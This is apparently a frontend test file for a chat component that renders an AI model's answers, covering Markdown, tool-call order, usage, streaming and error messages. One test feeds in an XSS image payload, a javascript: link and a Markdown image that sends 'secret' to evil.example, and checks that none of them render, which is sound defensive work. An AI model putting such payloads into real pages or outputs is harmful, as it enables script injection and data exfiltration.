import { render, screen, within } from "@testing-library/react";
import { execution, message } from "assistant/helpers/testFixtures";
import ChatMessage from "./ChatMessage";

describe("ChatMessage", () => {
  it("shows the user's text as typed", () => {
    render(<ChatMessage message={message({ role: "USER", text: "Line 1\n**not bold**" })} />);
    const article = screen.getByRole("article", { name: "Your message" });
    expect(article).toHaveTextContent("Line 1 **not bold**");
    expect(within(article).queryByRole("strong")).toBeNull();
  });

  it("renders the answer's Markdown, tables included", () => {
    const text = "Top districts:\n\n| district | cases |\n|---|---|\n| Bo | 120 |\n| Kenema | 95 |\n\n**Bo** leads.";
    render(<ChatMessage message={message({ text })} />);
    const table = screen.getByRole("table");
    expect(within(table).getAllByRole("row")).toHaveLength(3);
    expect(within(table).getByText("Kenema")).toBeInTheDocument();
    expect(screen.getByText("Bo", { selector: "strong" })).toBeInTheDocument();
  });

  it("never renders raw HTML nor loads images from the model's text", () => {
    const text = 'Hi <img src="x" onerror="alert(1)"> <b>bold</b>\n\n![chart](https://evil.example/p.png?d=secret)\n\n[link](javascript:alert(1))';
    const { container } = render(<ChatMessage message={message({ text })} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("b")).toBeNull();
    const link = container.querySelector("a");
    expect(link).toHaveTextContent("link");
    expect(link?.getAttribute("href") ?? "").not.toContain("javascript");
  });

  it("shows tokens and cost of the answer", () => {
    render(<ChatMessage message={message({ text: "Done.", inputTokens: 1200, outputTokens: 80, cost: "0.0123" })} />);
    const usage = screen.getByLabelText("Usage of this answer");
    expect(usage).toHaveTextContent("1,200 input · 80 output tokens");
    expect(usage).toHaveTextContent("$0.01");
  });

  it("shows the tool calls of the answer, before the text when there are no parts", () => {
    const { container } = render(
      <ChatMessage
        message={message({
          text: "Here.",
          toolExecutions: [execution({ id: "a", name: "list_files", input: {} }), execution({ id: "b" })],
        })}
      />,
    );
    const text = container.textContent ?? "";
    expect(text.indexOf("Listed files")).toBeGreaterThanOrEqual(0);
    expect(text.indexOf("Listed files")).toBeLessThan(text.indexOf("Here."));
  });

  it("keeps texts and tool calls in the order the model produced them", () => {
    const part = (text: string | null, id?: string) => ({
      __typename: "AssistantMessagePart" as const,
      text,
      toolExecution: id ? { __typename: "AssistantToolExecution" as const, id } : null,
    });
    const { container } = render(
      <ChatMessage
        message={message({
          text: "Let me look.\n\nThere are 16.",
          toolExecutions: [execution({ id: "a", name: "list_files", input: {} })],
          parts: [part("Let me look."), part(null, "a"), part("There are 16.")],
        })}
      />,
    );
    const text = container.textContent ?? "";
    const [before, tool, after] = ["Let me look.", "Listed files", "There are 16."].map((s) => text.indexOf(s));
    expect(before).toBeGreaterThanOrEqual(0);
    expect(before).toBeLessThan(tool);
    expect(tool).toBeLessThan(after);
  });

  it("shows a thinking indicator while streaming", () => {
    render(<ChatMessage message={message({ text: "", status: "RUNNING" })} streaming />);
    expect(screen.getByRole("status")).toHaveTextContent("Thinking…");
  });

  it("says what went wrong in plain words", () => {
    render(
      <ChatMessage
        message={message({ status: "FAILED", errorCode: "OVERLOADED", errorMessage: "Anthropic said 529." })}
      />,
    );
    const alert = screen.getByRole("alert");
    expect(alert).toHaveTextContent("The model is overloaded right now. Retry in a moment.");
    expect(alert).toHaveTextContent("Anthropic said 529.");
  });
});
